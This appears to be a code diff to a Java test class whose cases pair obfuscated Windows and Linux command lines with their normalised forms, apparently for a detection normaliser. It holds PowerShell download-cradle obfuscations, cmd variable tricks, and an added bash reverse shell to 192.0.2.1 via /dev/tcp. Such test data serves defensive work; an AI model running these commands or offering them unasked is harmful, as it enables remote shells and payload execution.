@@ -38,7 +38,8 @@ class NormalisedTest {
                 "%COMSPEC% /c whoami ¦ cmd /c whoami",
                 "%ComSpec:~-7,3%.exe /c dir ¦ cmd /c dir",
                 "cmd /c %PROGRAMDATA:~0,1%%SystemRoot:~3,1% ¦ cmd /c cw",
-                "cmd /c set x=power&& set y=shell&& call %x%%y% -nop ¦ cmd /c set x=power&& set y=shell&& call powershell -nop",
+                "cmd /c set x=power&& set y=shell&& call %x%%y% -nop ¦ cmd /c set x=power&& set y=shell&& call"
+                        + " powershell -nop",
                 "powershell IE`X (nE`w-obj`ect net.webclient) ¦ powershell iex (new-object net.webclient)",
                 "powershell 'down'+'load'+'string' ¦ powershell downloadstring",
                 "powershell \"Invoke\" + \"-Expression\" ¦ powershell invoke-expression",
@@ -74,6 +75,7 @@ class NormalisedTest {
                 "/usr//bin/./curl http://x.example//a ¦ curl http://x.example/a",
                 "sudo -u root /usr/bin/vim a ¦ sudo -u root vim a",
                 "bash -c '/usr/bin/id;/bin/uname -a' ¦ bash -c id;uname -a",
+                "bash -i >& /dev/tcp/192.0.2.1/1 0>&1;id &>/tmp/x ¦ bash -i >& /dev/tcp/192.0.2.1/1 0>&1;id &>/tmp/x",
                 "env A=b nohup /tmp/x & ¦ env a=b nohup x &",
             })
     void linuxShells(String line, String plain) {
